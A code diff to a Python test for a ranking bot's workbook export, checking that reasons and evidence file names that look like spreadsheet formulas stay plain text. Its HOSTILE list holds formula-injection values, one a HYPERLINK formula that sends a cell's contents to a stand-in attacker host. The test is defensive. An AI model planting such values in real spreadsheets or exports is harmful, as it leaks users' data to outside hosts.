@@ -9,11 +9,11 @@ from openpyxl import load_workbook
 
 from bot.cluster_files import load_cluster_year
 from bot.config import BUNDLED_CLUSTER
+from bot.domain.score_sheet import CriterionEntry, Evidence, Review, ScoreSheet, SheetEntries
 from bot.domain.scoring import rank
 from bot.i18n import translator
 from bot.outputs.ranking_files import ranking_workbook
 from bot.services.ranking_data import RankingData, final_scores
-from storage.scores import Review, ScoreSheet
 from tests.year_end import ranking_data
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
@@ -27,9 +27,10 @@ def test_reasons_and_evidence_names_that_look_like_formulas_stay_text() -> None:
     criterion = table.criteria()[0]
     sheets, reviews = {}, {}
     for i, unit in enumerate(year.cluster.units):
-        evidence = [["0" * 64, HOSTILE[i % len(HOSTILE)] + ".pdf"]]
-        entry = {"value": 1, "points": 1.0, "note": "", "evidence": evidence}
-        sheets[unit.code] = ScoreSheet(unit.code, 1, 1, now, {"criteria": {criterion.code: entry}})
+        evidence = (Evidence("0" * 64, HOSTILE[i % len(HOSTILE)] + ".pdf"),)
+        entry = CriterionEntry(1, 1.0, evidence=evidence)
+        entries = SheetEntries({criterion.code: entry})
+        sheets[unit.code] = ScoreSheet(unit.code, 1, 1, now, entries)
         reason = HOSTILE[i % len(HOSTILE)]
         reviews[(unit.code, criterion.code)] = Review(unit.code, criterion.code, 0.5, reason, now)
     data = RankingData(table, rank(table, final_scores(sheets, reviews)), sheets, reviews)
